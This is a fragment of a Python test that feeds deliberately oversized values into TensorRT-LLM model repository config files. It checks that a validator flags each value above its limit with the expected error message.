    edit(root, "tensorrt_llm", "instance_group", 'dynamic_batching { default_queue_policy { max_queue_size: '
         '100000000 } }\nparameters { key: "max_num_sequences" value: { string_value: "99999999999" } }\n'
         "instance_group")  # fmt: skip
    problems = validate_repository(root)
    found = {(p.file, p.line): p.message for p in problems if "above the limit" in p.message}
    expected = {
        ("postprocessing/config.pbtxt", line_of(root, "postprocessing", "count: 1000000")):
            f"instance_group count 1,000,000 is above the limit of {limits.MAX_INSTANCE_COUNT:,}",
        ("preprocessing/config.pbtxt", 3): f"max_batch_size 2,147,483,647 is above the limit of {limits.MAX_BATCH_SIZE:,}",
        ("tensorrt_llm/config.pbtxt", line_of(root, "tensorrt_llm", '"input_ids"')):
            f'input "input_ids" dimension 9,223,372,036,854,775,807 is above the limit of {limits.MAX_DIM:,}',
        ("tensorrt_llm/config.pbtxt", line_of(root, "tensorrt_llm", "max_queue_size")):
            f"max_queue_size 100,000,000 is above the limit of {limits.MAX_QUEUE_SIZE:,}",
        ("tensorrt_llm/config.pbtxt", line_of(root, "tensorrt_llm", "max_num_sequences")):
            f"parameter max_num_sequences 99,999,999,999 is above the limit of {limits.MAX_BATCH_SIZE:,}",
    }  # fmt: skip
    assert {where: message.split(";")[0] for where, message in found.items()} == expected
